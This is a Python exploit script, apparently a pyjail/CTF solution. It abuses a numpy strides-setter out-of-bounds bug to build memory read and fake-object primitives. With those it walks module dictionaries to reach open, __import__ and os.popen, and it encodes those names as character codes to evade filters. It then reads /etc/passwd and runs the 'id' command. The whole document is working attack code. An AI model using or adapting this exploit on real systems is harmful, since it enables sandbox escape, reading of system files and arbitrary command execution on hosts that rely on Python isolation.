# source: numpy array_strides_set (numpy/core/src/multiarray/getset.c) bound check uses numbytes=view.len+offset for buffer-backed bases; pyjail/CTF addrof/fakeobj technique (fake bytearray over all memory)
# family: same strides-setter OOB, variant: np.array(bytearray, copy=False) 2-D view, addresses parsed from default repr() instead of hash()
# goal: module dicts of dataclasses/builtins/os -> inspect module + frame repr, /etc/passwd, id
import numpy as np
import dataclasses

def s(*cs):
    return "".join(chr(c) for c in cs)

def addr_from_hash(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)

class Marker:
    pass

N = 512
found = None
keep = []
for attempt in range(200):
    a = np.array(bytearray(N * 8), copy=False).view(np.uint64)
    objs = np.empty(N, dtype=object)
    m = Marker()
    objs[:] = m
    keep.append((a, objs, m))
    v = a[N // 2:]
    v.strides = (8 * 2,)
    w = a[N // 2 + 1:]
    w.strides = (8 * 2,)
    target = addr_from_hash(m)
    for arr, par in ((v, 0), (w, 1)):
        hits = np.nonzero(arr == np.uint64(target))[0]
        if len(hits) > 0:
            found = (a, objs, m, arr, int(hits[0]))
            break
    if found:
        break
print("attempt", attempt, "found", found is not None)
a, objs, m, arr, j = found
# which slot of objs is arr[j]? set all to None except probe
objs[:] = None
base_val = int(arr[j])
for k in range(N):
    objs[k] = m
    if int(arr[j]) == target:
        slot = k
        break
    objs[k] = None
print("slot", slot)

def addrof(o):
    objs[slot] = o
    r = int(arr[j])
    objs[slot] = None
    return r

def fakeobj(p):
    arr[j] = np.uint64(p)
    r = objs[slot]
    arr[j] = np.uint64(addrof(None))
    return r

print("check addrof", hex(addrof(m)), hex(target))
ba_type = addrof(bytearray)
big = 0x7FFFFFFFFFFFFFF0
fake = np.array([1 << 40, ba_type, big, big, 0, 0, 0, 0], dtype=np.uint64).tobytes()
fb = fakeobj(addrof(fake) + 32)
keep.append(fb)

def read64(p):
    return int.from_bytes(fb[p:p + 8], "little")

mod = addrof(dataclasses)
dct = fakeobj(read64(mod + 16))
keep.append(dct)
insp = dct[s(105, 110, 115, 112, 101, 99, 116)]
print(insp)
print(insp.currentframe())
bi = dct[s(98, 117, 105, 108, 116, 105, 110, 115)]
bid = fakeobj(read64(addrof(bi) + 16))
keep.append(bid)
op = bid[s(111, 112, 101, 110)]
print(op(s(47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100)).read()[:200])
imp = bid[s(95, 95, 105, 109, 112, 111, 114, 116, 95, 95)]
o = imp(s(111, 115))
od = fakeobj(read64(addrof(o) + 16))
keep.append(od)
print(od[s(112, 111, 112, 101, 110)](s(105, 100)).read())
